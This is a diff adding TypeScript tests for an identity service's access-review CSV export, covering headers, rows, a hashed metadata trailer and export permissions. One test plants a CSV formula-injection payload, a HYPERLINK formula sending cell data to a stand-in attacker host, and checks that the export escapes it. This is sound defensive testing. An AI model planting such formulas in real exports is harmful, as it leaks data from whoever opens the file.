@@ -1,3 +1,5 @@
+import { createHash } from 'node:crypto';
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ROLE_PERMISSIONS } from '../../../src/identity/permissions.ts';
 import { type IdentityStack, identityStack } from '../../support/identity-stack.ts';
@@ -163,6 +165,57 @@ describe('roles', () => {
       roles: [{ role: 'finance', grantedBy: { kind: 'system', id: 'test' }, reason: 'Test' }],
     });
     expect(entry.permissions).toContain('invoice.finalise');
+  });
+});
+
+describe('the review as a file', () => {
+  const path = '/api/identity/access-review.csv';
+  const fileFor = async (bearer: string) => stack.call('GET', path, bearer);
+  const recordsOf = (text: string): string[][] =>
+    parse(text, { bom: true, relax_column_count: true, skip_empty_lines: true });
+
+  it('has a row for each role of everybody, says what it is, and holds no formula', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?"&A1)';
+    const { id } = (await issue({ name: formula, roles: ['consumer'] })).body.data;
+    const { status, body, headers } = await fileFor(await stack.person('auditor'));
+    expect([status, headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8; header=present']);
+    expect(headers.get('content-disposition')).toMatch(/^attachment; filename="access-review-\d{4}-\d\d-\d\d\.csv"$/);
+    const records = recordsOf(body);
+    const end = records.findIndex(([name]) => name === 'report');
+    const [header, ...rows] = records.slice(0, end);
+    expect(header?.slice(0, 5)).toEqual(['kind', 'identity', 'name', 'status', 'role']);
+    expect(rows.filter(([, identity]) => identity === 'oidc:finance')).toEqual([
+      expect.arrayContaining(['user', 'oidc:finance', 'active', 'finance', 'system test', 'Test']),
+    ]);
+    const key = rows.find(([, identity]) => identity === id);
+    expect(key).toEqual(
+      expect.arrayContaining([`'${formula}`, 'user oidc:admin', 'user oidc:second-admin', `Issued as ${formula}`]),
+    );
+    expect(records.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    const about = Object.fromEntries(records.slice(end));
+    expect(about).toMatchObject({
+      report: 'Access review',
+      parameters: 'none: all identities',
+      build: 'test',
+      requester: 'user oidc:auditor',
+      position: expect.stringMatching(/^\d+$/),
+      rows: String(rows.length),
+    });
+    const hashed = body.slice(0, body.lastIndexOf('"sha256"'));
+    expect(about.sha256).toBe(
+      createHash('sha256')
+        .update(`\uFEFF${hashed.replace(/^\uFEFF/, '')}`)
+        .digest('hex'),
+    );
+  });
+
+  it('is for those who may export, and only together with the review', async () => {
+    const refused = async (bearer: string) => (await fileFor(bearer)).body.error.details.permission;
+    expect(await refused(admin)).toBe('audit.export');
+    const { text } = await stack.key(['auditor']);
+    expect((await fileFor(text)).status).toBe(200);
+    const scoped = await issue({ name: 'Files', roles: ['auditor'], scopes: ['audit.export'] });
+    expect(await refused(scoped.body.data.key)).toBe('identity.review');
   });
 });
 
